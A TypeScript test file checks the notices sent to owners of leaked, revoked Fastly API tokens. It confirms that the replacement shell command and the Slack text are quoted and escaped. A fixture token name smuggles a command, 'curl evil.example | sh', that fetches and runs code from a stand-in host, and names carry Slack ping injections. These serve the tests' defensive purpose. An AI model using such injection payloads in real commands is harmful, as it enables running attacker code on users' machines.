import { describe, expect, it } from "vitest";
import type { LeakOutcome } from "../../src/tokens/leak-outcome";
import { renderOwnerNotice, replacementCommand, shellQuote } from "../../src/tokens/owner-notice-content";

const owner = { id: "u1", login: "carol@acme.example", name: "Carol <!channel> User", twoFactor: false };
const hostile = "deploy'; curl evil.example | sh; echo '`<@U123>`";
const outcome = (over: Partial<LeakOutcome> = {}): LeakOutcome => ({
  status: "revoked",
  tokenHash: "a".repeat(64),
  context: { source: "github_alert", repository: "acme/app", alertUrl: "https://github.com/acme/app/security/secret-scanning/7" },
  token: { id: "tok1", name: hostile, user_id: "u1", scope: "global:read purge_select", services: ["svcA", "svcB"], expires_at: "2027-01-31T00:00:00Z" },
  ...over,
});
const opts = { fastlyBaseUrl: "https://api.fastly.com", contact: "secops@acme.example" };
const timing = { firstSeenMs: Date.parse("2026-07-01T10:00:00Z"), revokedMs: Date.parse("2026-07-01T10:04:12Z") };

/** Splits a command the way a POSIX shell would (single quotes, double quotes, backslash-newline), enough to check it. */
function shellWords(command: string): string[][] {
  return command.split("\n").reduce<string[][]>((lines, line, i, all) => {
    const words: string[] = [];
    let word: string | null = null;
    for (let j = 0; j < line.length; j++) {
      const ch = line[j]!;
      if (ch === "'") {
        const end = line.indexOf("'", j + 1);
        word = (word ?? "") + line.slice(j + 1, end);
        j = end;
      } else if (ch === '"') {
        const end = line.indexOf('"', j + 1);
        word = (word ?? "") + line.slice(j + 1, end);
        j = end;
      } else if (ch === "\\") {
        // A backslash escapes the next character; at the end of a line it continues the command.
        if (j < line.length - 1) word = (word ?? "") + line[++j];
      } else if (ch === " " || ch === ";") {
        if (word !== null) words.push(word);
        word = null;
        if (ch === ";") words.push(";");
      } else word = (word ?? "") + ch;
    }
    if (word !== null) words.push(word);
    const continued = i > 0 && all[i - 1]!.endsWith("\\");
    if (continued) lines[lines.length - 1]!.push(...words);
    else lines.push(words);
    return lines;
  }, []);
}

describe("owner notice content", () => {
  it("quotes Fastly-controlled values as single shell words", () => {
    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
    expect(shellQuote("a\nb")).toBe("'a b'");
  });

  it("builds a replacement command whose fields are exactly the old token's, whatever its name holds", () => {
    const command = replacementCommand(outcome().token!, owner, opts.fastlyBaseUrl);
    const [read, curl] = shellWords(command);
    expect(read).toEqual(["read", "-rsp", "Fastly password for carol@acme.example: ", "FASTLY_PASSWORD", ";", "echo"]);
    expect(curl).toEqual([
      "curl", "-sS", "-X", "POST", "https://api.fastly.com/tokens",
      "--data-urlencode", "username=carol@acme.example",
      "--data-urlencode", "password=$FASTLY_PASSWORD",
      "--data-urlencode", `name=${hostile}`,
      "--data-urlencode", "scope=global:read purge_select",
      "--data-urlencode", "services[]=svcA",
      "--data-urlencode", "services[]=svcB",
      "--data-urlencode", "expires_at=2027-01-31T00:00:00Z",
    ]);
  });

  it("tells what leaked, where, when found and revoked, the time in between and whom to contact", () => {
    const notice = renderOwnerNotice(owner, [{ outcome: outcome(), timing }], opts);
    for (const part of [
      "Scope:        global:read purge_select",
      "Services:     svcA, svcB",
      "Expires:      2027-01-31 00:00 UTC",
      "Found at:     acme/app · https://github.com/acme/app/security/secret-scanning/7",
      "Reported by:  GitHub secret scanning (an alert in the repository)",
      "First seen:   2026-07-01 10:00 UTC",
      "Revoked:      2026-07-01 10:04 UTC (4 min 12 s after it was first seen)",
      "Questions? Contact secops@acme.example.",
    ]) {
      expect(notice.text).toContain(part);
    }
  });

  it("renders names inert on Slack: escaped, no pings, the command fenced", () => {
    const { slackText } = renderOwnerNotice(owner, [{ outcome: outcome(), timing }], opts);
    expect(slackText).not.toMatch(/<[!@]/);
    expect(slackText).toContain("Carol &lt;!channel&gt; User");
    expect(slackText).toContain("&lt;@U123&gt;");
    const fences = slackText.match(/```/g) ?? [];
    expect(fences).toHaveLength(2);
  });

  it("asks for the token to be revoked now when it could not be, with no replacement", () => {
    const notice = renderOwnerNotice(owner, [{ outcome: outcome({ status: "failed" }), timing: { ...timing, revokedMs: null } }], opts);
    expect(notice.subject).toBe(`Your Fastly API token "${hostile}" leaked: revoke it now`);
    expect(notice.text).toContain("NOT revoked yet");
    expect(notice.text).not.toContain("curl -sS");
  });
});
